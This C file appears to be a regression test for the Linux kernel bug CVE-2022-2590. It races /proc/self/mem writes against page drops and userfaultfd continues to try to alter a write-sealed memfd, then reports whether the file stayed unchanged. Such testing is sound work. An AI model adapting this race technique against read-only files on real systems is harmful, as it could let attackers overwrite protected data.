/* bug_03_shmem_cow.c - CVE-2022-2590: as bug 1 with a memfd that is sealed against writing: its bytes must never
 * change, whatever the private mapping of it goes through; also while another thread shows the file's page in it by
 * UFFDIO_CONTINUE, between the write's two looks. */
#include "bug.h"
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>

#define LOOPS 4000
static char *page;

static void *drop(void *unused) {
    pin(1);
    for (int i = 0; i < LOOPS; i++)
        madvise(page, PAGE, MADV_DONTNEED);
    return unused;
}

static int watcher;
static void *show(void *unused) {
    pin(1);
    for (int i = 0; i < LOOPS; i++) {
        struct uffdio_continue c = {{(unsigned long)page, PAGE}, 0, 0};
        ioctl(watcher, UFFDIO_CONTINUE, &c);
    }
    return unused;
}

/* Nothing answers a forced write where the page is not shown: so it fails, or goes to a copy. */
static void again_watched(int mem) {
    struct uffdio_api api = {.api = UFFD_API};
    struct uffdio_register r = {{(unsigned long)page, PAGE}, UFFDIO_REGISTER_MODE_MINOR, 0};
    watcher = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
    must(watcher >= 0 && !ioctl(watcher, UFFDIO_API, &api) && !ioctl(watcher, UFFDIO_REGISTER, &r));
    pthread_t dropper = start(drop, NULL), shower = start(show, NULL);
    pin(0);
    for (int i = 0; i < LOOPS; i++)
        (void)!pwrite(mem, "mmmm", 4, (off_t)page);
    pthread_join(dropper, NULL);
    pthread_join(shower, NULL);
    close(watcher);
}

int main(void) {
    static char text[PAGE], now[PAGE];
    memset(text, 'o', sizeof(text));
    int fd = memfd_create("sealed", MFD_ALLOW_SEALING), mem = open("/proc/self/mem", O_RDWR);
    must(write(fd, text, PAGE) == (ssize_t)PAGE);
    must(!fcntl(fd, F_ADD_SEALS, F_SEAL_WRITE | F_SEAL_SHRINK | F_SEAL_GROW));
    page = map(NULL, PAGE, PROT_READ, MAP_PRIVATE, fd);
    pthread_t other = start(drop, NULL);
    pin(0);
    for (int i = 0; i < LOOPS; i++) {
        (void)!pwrite(mem, "mmmm", 4, (off_t)page);
        must(page[0] == 'o' || page[0] == 'm');
    }
    pthread_join(other, NULL);
    must(pread(fd, now, PAGE, 0) == (ssize_t)PAGE);
    printf("the sealed file is as it was -> %d\n", !memcmp(now, text, PAGE));
    again_watched(mem);
    must(pread(fd, now, PAGE, 0) == (ssize_t)PAGE);
    printf("... and with userfaultfd -> %d\n", !memcmp(now, text, PAGE));
    printf("writing -> %s\n", write(fd, "x", 1) < 0 ? strerrorname_np(errno) : "ok");
    return 0;
}
